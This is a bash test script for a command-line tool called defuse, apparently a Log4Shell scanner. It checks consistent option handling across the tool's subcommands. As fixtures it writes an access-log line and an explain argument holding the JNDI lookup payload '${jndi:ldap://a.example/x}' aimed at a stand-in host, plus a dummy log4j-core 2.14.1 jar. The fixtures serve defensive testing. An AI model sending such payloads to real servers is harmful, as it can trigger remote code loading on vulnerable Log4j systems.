#!/usr/bin/env bash
# cli_flags.sh -- one option vocabulary across the subcommands (issue 13
# item 6; the table is docs/cli.md, "Common options"):
#  - every subcommand's errors start "defuse SUBCMD: ", also getopt's (an
#    unknown option, an option without its value), naming the option;
#  - -j/--jobs in logs and scan (--threads kept as an alias);
#  - -o/--output FILE in logs, scan, explain and register;
#  - --color=WHEN in logs, scan, explain (a bad WHEN refused);
#  - --progress/--no-progress in logs and scan;
#  - -q/--quiet means one thing: nothing on stdout, the exit status tells;
#  - two output formats at once (--json --sarif, --json --ecs) are refused.
set -u
: "${DEFUSE:?DEFUSE must name the defuse binary}"
: "${DEFUSE_SRC:?DEFUSE_SRC must name the source tree}"
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
T=$(mktemp -d /tmp/defuse-flags.XXXXXX)
trap 'rm -rf "$T"' EXIT
fails=0
fail() { echo "FAIL: $*" >&2; fails=$((fails + 1)); }
ok() { echo "ok: $*"; }

# fixtures: a log with one JNDI attempt, a pom-only log4j-core 2.14.1 jar
printf '10.0.0.1 - - [10/Dec/2021:13:00:00 +0000] "GET /?x=${jndi:ldap://a.example/x} HTTP/1.1" 200 1 "-" "-"\n' >"$T/a.log"
python3 - "$T/core.jar" <<'EOF'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties",
               "version=2.14.1\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\n")
EOF
mkdir "$T/jars" && cp "$T/core.jar" "$T/jars/"
DB="$T/reg.db"

# run CMD...: exit status in $st, stdout in $T/out, stderr in $T/err
run() { st=0; "$@" >"$T/out" 2>"$T/err" </dev/null || st=$?; }

# ---- error prefix, unknown options, missing values ---------------------------
for sub in logs scan explain honeypot register; do
    run "$DEFUSE" "$sub" --no-such-flag
    if [ "$st" -eq 2 ] && head -1 "$T/err" | grep -qx "defuse $sub: unknown option '--no-such-flag'"; then
        ok "$sub --no-such-flag: $(head -1 "$T/err")"
    else
        fail "$sub --no-such-flag: exit $st, stderr: $(head -2 "$T/err")"
    fi
    run "$DEFUSE" "$sub" -Z
    if [ "$st" -eq 2 ] && head -1 "$T/err" | grep -qx "defuse $sub: unknown option '-Z'"; then
        ok "$sub -Z"
    else
        fail "$sub -Z: exit $st, stderr: $(head -2 "$T/err")"
    fi
done
for cmd in "logs -j" "logs --jobs" "scan -j" "scan --jobs" "explain -o" "honeypot -c" \
    "register --db" "scan -o"; do
    set -- $cmd
    run "$DEFUSE" "$@"
    if [ "$st" -eq 2 ] && head -1 "$T/err" | grep -qx "defuse $1: option '$2' needs a value"; then
        ok "$cmd (no value)"
    else
        fail "$cmd (no value): exit $st, stderr: $(head -2 "$T/err")"
    fi
done

# ---- -j/--jobs (and --threads) -----------------------------------------------
for sub in logs scan; do
    f="$T/a.log"; [ "$sub" = scan ] && f="$T/jars"
    for j in "-j 2" "--jobs 2" "--jobs=2" "--threads 2"; do
        run "$DEFUSE" "$sub" --no-progress $j "$f"
        [ "$st" -eq 1 ] && ok "$sub $j" || fail "$sub $j: exit $st, want 1: $(head -2 "$T/err")"
    done
    run "$DEFUSE" "$sub" --jobs 0 "$f"
    [ "$st" -eq 2 ] && grep -q "^defuse $sub: --jobs: '0' is not a number" "$T/err" &&
        ok "$sub --jobs 0 refused" || fail "$sub --jobs 0: exit $st: $(head -2 "$T/err")"
done

# ---- -o/--output ------------------------------------------------------------------
check_output() { # what file cmd...
    local what=$1 file=$2
    shift 2
    rm -f "$file"
    run "$@"
    if [ "$st" -le 1 ] && [ -s "$file" ] && [ ! -s "$T/out" ]; then
        ok "$what writes $file"
    else
        fail "$what: exit $st, file $(wc -c <"$file" 2>/dev/null || echo missing) bytes, stdout $(wc -c <"$T/out") bytes: $(head -2 "$T/err")"
    fi
}
check_output "logs -o" "$T/o1" "$DEFUSE" logs -o "$T/o1" "$T/a.log"
check_output "logs --output" "$T/o2" "$DEFUSE" logs --json --output="$T/o2" "$T/a.log"
check_output "scan -o" "$T/o3" "$DEFUSE" scan --no-progress -o "$T/o3" "$T/jars"
check_output "explain -o" "$T/o4" "$DEFUSE" explain -o "$T/o4" '${jndi:ldap://a.example/x}'
check_output "register -o" "$T/o5" "$DEFUSE" register --db "$DB" -o "$T/o5" status
run "$DEFUSE" logs -o "$T/no/such/dir/x" "$T/a.log"
[ "$st" -eq 2 ] && grep -q "^defuse logs: -o $T/no/such/dir/x: No such file" "$T/err" &&
    ok "logs -o into a missing directory refused" || fail "logs -o bad path: exit $st: $(cat "$T/err")"

# ---- --color ----------------------------------------------------------------------------
for sub in logs scan explain; do
    case $sub in logs) a="$T/a.log" ;; scan) a="$T/jars" ;; explain) a='${jndi:ldap://a.example/x}' ;; esac
    run "$DEFUSE" "$sub" --color=always "$a"
    [ "$st" -le 1 ] && grep -q $'\033\\[' "$T/out" && ok "$sub --color=always colours" ||
        fail "$sub --color=always: exit $st, no escape in stdout: $(head -2 "$T/err")"
    run "$DEFUSE" "$sub" --color never "$a"
    [ "$st" -le 1 ] && ! grep -q $'\033' "$T/out" && ok "$sub --color never" ||
        fail "$sub --color never: exit $st: $(head -2 "$T/err")"
    run "$DEFUSE" "$sub" --color=sometimes "$a"
    [ "$st" -eq 2 ] && grep -q "^defuse $sub: --color: 'sometimes' is not auto, always or never" "$T/err" &&
        ok "$sub --color=sometimes refused" || fail "$sub --color=sometimes: exit $st: $(head -2 "$T/err")"
done

# ---- --progress / --no-progress ----------------------------------------------------------
for sub in logs scan; do
    f="$T/a.log"; [ "$sub" = scan ] && f="$T/jars"
    run "$DEFUSE" "$sub" --progress "$f"
    [ "$st" -eq 1 ] && [ -s "$T/err" ] && ok "$sub --progress (stderr: $(head -c 60 "$T/err" | tr -d '\r\033'))" ||
        fail "$sub --progress: exit $st, stderr $(wc -c <"$T/err") bytes"
    run "$DEFUSE" "$sub" --no-progress "$f"
    [ "$st" -eq 1 ] && ok "$sub --no-progress" || fail "$sub --no-progress: exit $st"
done

# ---- -q/--quiet: nothing on stdout, the exit status tells ----------------------------------
for sub in logs scan; do
    f="$T/a.log"; [ "$sub" = scan ] && f="$T/jars"
    for q in -q --quiet; do
        run "$DEFUSE" "$sub" --no-progress $q "$f"
        [ "$st" -eq 1 ] && [ ! -s "$T/out" ] && ok "$sub $q: exit 1, stdout empty" ||
            fail "$sub $q: exit $st, stdout $(wc -c <"$T/out") bytes"
    done
done

for fmt in --json --sarif --cyclonedx --ecs; do
    run "$DEFUSE" scan --no-progress -q $fmt "$T/jars"
    [ "$st" -eq 1 ] && [ ! -s "$T/out" ] && ok "scan -q $fmt: exit 1, stdout empty" ||
        fail "scan -q $fmt: exit $st, stdout $(wc -c <"$T/out") bytes"
done
for sub in logs scan; do
    run "$DEFUSE" "$sub" --json=yes "$T/a.log"
    [ "$st" -eq 2 ] && head -1 "$T/err" | grep -qx "defuse $sub: option '--json' takes no value" &&
        ok "$sub --json=yes refused" || fail "$sub --json=yes: exit $st: $(head -2 "$T/err")"
done

# ---- output formats exclude each other -----------------------------------------------------
for cmd in "scan --json --sarif" "scan --sarif --cyclonedx" "scan --json --ecs" "logs --json --ecs"; do
    set -- $cmd
    f="$T/a.log"; [ "$1" = scan ] && f="$T/jars"
    run "$DEFUSE" "$@" "$f"
    [ "$st" -eq 2 ] && grep -q "^defuse $1: $2 and $3 exclude each other" "$T/err" &&
        ok "$cmd refused" || fail "$cmd: exit $st, stderr: $(head -2 "$T/err")"
done

[ "$fails" -eq 0 ] || { echo "$fails failure(s)" >&2; exit 1; }
echo "all passed"
